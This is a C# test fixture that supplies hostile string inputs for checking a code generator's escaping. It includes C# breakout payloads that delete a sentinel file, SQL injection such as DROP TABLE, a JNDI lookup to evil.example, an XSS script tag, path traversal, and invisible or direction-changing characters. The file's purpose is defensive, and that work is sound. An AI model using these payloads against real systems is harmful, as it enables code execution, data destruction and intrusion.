namespace RulePlugins.Reliability.Tests;

/// <summary>
/// Text a hostile or careless author puts in a value: C# string, comment, preprocessor and interpolation syntax, line
/// terminators C# knows and JSON does not escape, invisible and direction-changing characters, SQL, format strings,
/// lengths at and around the limit. Every one must either be refused as a document error or become a literal that
/// compiles, changes nothing on disk and reads back from the stored document exactly as sent.
/// </summary>
public static class HostileLiterals
{
    /// <summary>The corpus; <paramref name="sentinel"/> is a file the code-injection payloads try to delete.</summary>
    public static IReadOnlyList<string> All(string sentinel)
    {
        var path = sentinel.Replace("\\", "\\\\", StringComparison.Ordinal);
        string[] injections =
        [
            $"\"); System.IO.File.Delete(\"{path}\"); //",
            $"\"); System.IO.File.Delete(@\"{sentinel}\"); //",
            $"\" + (System.IO.File.Exists(\"{path}\") ? \"\" : \"\") + \"",
            $"\")) || System.IO.File.Delete(\"{path}\") is var _ || ((\"",
            $"*/ System.IO.File.Delete(\"{path}\"); /*",
            $"\n System.IO.File.Delete(\"{path}\");\n//",
            $"\u2028System.IO.File.Delete(\"{path}\");//",
            $"\u2029System.IO.File.Delete(\"{path}\");//",
            $"\u0085System.IO.File.Delete(\"{path}\");//",
            $"\r\nSystem.IO.File.Delete(\"{path}\");\r\n//",
            $"\"); }} static Rules_0() {{ System.IO.File.Delete(\"{path}\"); }} //",
            $"\"}}; }} }} class Evil {{ static Evil() {{ System.IO.File.Delete(\"{path}\"); }} }} class X {{ static string[] Y = {{\"",
            $"{{System.IO.File.Delete(\"{path}\")}}",
            $"$\"{{System.IO.File.Delete(\"{path}\")}}\"",
            $"\"\"\"); System.IO.File.Delete(\"{path}\"); //",
            $"\\\"); System.IO.File.Delete(\"{path}\"); //",
            $"@\"\"); System.IO.File.Delete(\"{path}\"); //",
            $"#line 1 \"evil.cs\"\nSystem.IO.File.Delete(\"{path}\");",
        ];
        string[] syntax =
        [
            "\"", "\"\"", "\"\"\"", "\"\"\"\"", "\"\"\"raw\"\"\"", "$\"\"\"{x}\"\"\"", "\\", "\\\\", "\\\"", "\\\\\"", "'", "''", "'\\''",
            "*/", "/*", "/* unterminated", "//", "// comment", "#line 1 \"evil.cs\"", "\n#line 1", "\r\n#error boom", "#pragma warning disable",
            "#if false", "#endif", "#region", "#!", "{{", "}}", "{", "}", "{{{{", "}}}}", "{0}", "{0:N2}", "{{0}}", "{0,-10}", "$\"{x}\"",
            "{System.Environment.Exit(1)}", "@\"", "@\"x\"\"y\"", "@", "@@", "`", "${}", "?.", "??", "=>", "\") || true || (\"",
            "\" == \"\" || true || \"", "null", "NULL", "default!", "true", "0", "-1", "1e309", "NaN", "Infinity", "\\u0022", "\\n", "\\x41",
            "\\U0001F600", "%s", "%n", "%x%x%x", "${jndi:ldap://evil.example/a}", "<script>alert(1)</script>", "&amp;", "../../etc/passwd",
            "C:\\Windows\\System32\\", "'; DROP TABLE profiles; --", "' OR '1'='1", "1; DELETE FROM segments", "\"; DROP TABLE segment_versions; --",
            "'); DELETE FROM segment_members; --", "x' COLLATE NOCASE --",
        ];
        string[] characters =
        [
            "\u2028", "a\u2028b", "\u2029", "a\u2029// b", "\u0085", "a\u0085// b", "\uFEFF", "\uFEFFbom", "\u0000", "a\u0000b", "\u202E",
            "abc\u202Edcba", "\u202Ax\u202C", "\u2066isolate\u2069", "\u200B", "zero\u200Bwidth", "\u200C\u200D", "\u2060", "\u00A0", "\u3000",
            "\u1680", "\t", "\v", "\f", "\r", "\n", "\r\n", "\u001B[31mred", "\u0007", "\u007F", "\u0001\u0002\u0003", "\uD83D\uDE00",
            "\U0001D54F", "Москва", "東京", "עברית", "مرحبا", "\uFDFA", "e\u0301", "\uFFFD", "\uFFFF", "\uE000", " leading", "trailing ",
            "  both  ", "a\tb", "line1\nline2", "\u00AD", "\u034F", "\u180E",
        ];
        string[] sizes =
        [
            new string('x', 999), new string('x', 1000), new string('x', 1001), new string('x', 999) + "\"", new string('"', 500),
            new string('\\', 501), string.Concat(Enumerable.Repeat("\"\\", 250)), string.Concat(Enumerable.Repeat("\u2028", 300)),
            string.Concat(Enumerable.Repeat("*/", 400)), string.Concat(Enumerable.Repeat("{0}", 333)), new string('x', 5000),
        ];
        return [.. injections, .. syntax, .. characters, .. sizes];
    }

    /// <summary>
    /// String values written as raw JSON escapes that no C# string round-trips through a serializer: unpaired surrogates.
    /// Every one must be refused as a document error.
    /// </summary>
    public static IReadOnlyList<string> InvalidEscapes { get; } = ["\\ud800", "a\\udfffb", "\\udc00\\ud800", "\\ud83d", "x\\ude00"];
}
